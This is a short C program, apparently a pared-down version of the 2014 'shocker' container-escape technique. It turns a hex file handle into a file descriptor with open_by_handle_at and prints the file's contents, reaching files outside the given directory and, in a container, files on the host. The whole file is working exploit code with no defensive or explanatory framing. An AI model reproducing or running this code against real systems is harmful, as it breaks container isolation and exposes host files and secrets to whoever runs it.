/* shocker DIRECTORY TYPE HEX - open a file by its handle, on the file system of a directory, and print
 * what it holds: not beneath the directory at all (open_by_handle_at(2), 2014). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    char text[256];
    int mount, fd;
    ssize_t n;

    if (argc != 4 || !handle)
        return 2;
    handle->handle_type = atoi(argv[2]);
    handle->handle_bytes = (unsigned)strlen(argv[3]) / 2;
    for (unsigned i = 0; i < handle->handle_bytes && i < MAX_HANDLE_SZ; i++) {
        const char digits[] = {argv[3][2 * i], argv[3][2 * i + 1], 0};
        handle->f_handle[i] = (unsigned char)strtoul(digits, NULL, 16);
    }
    mount = open(argv[1], O_RDONLY | O_DIRECTORY);
    fd = open_by_handle_at(mount, handle, O_RDONLY);
    if (fd < 0) {
        printf("%d\n", -errno);
        return 1;
    }
    n = read(fd, text, sizeof text);
    printf("%.*s\n", (int)(n > 0 ? n : 0), text);
    return 0;
}
